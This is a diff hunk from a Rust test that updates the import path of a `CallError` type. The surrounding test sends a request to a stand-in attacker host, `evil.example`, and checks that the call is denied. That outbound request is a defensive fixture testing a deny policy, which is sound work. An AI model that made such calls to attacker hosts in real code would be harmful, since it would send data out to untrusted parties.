@@ -66,7 +66,7 @@ pub(super) fn family() -> Family {
         let deeds =
             json!([{"request": {"url": "http://evil.example/{base}", "body": {"text": "x"}}}]);
         let denied = stage.poll(&json!({"do": deeds, "then": {"error": {"cause": "denied"}}}));
-        let Err(zoetrope_host::call::CallError::Node(error)) = denied else {
+        let Err(zoetrope_host::component::CallError::Node(error)) = denied else {
             panic!("{denied:?}")
         };
         let ErrorCause::Denied(why) = error.cause else {
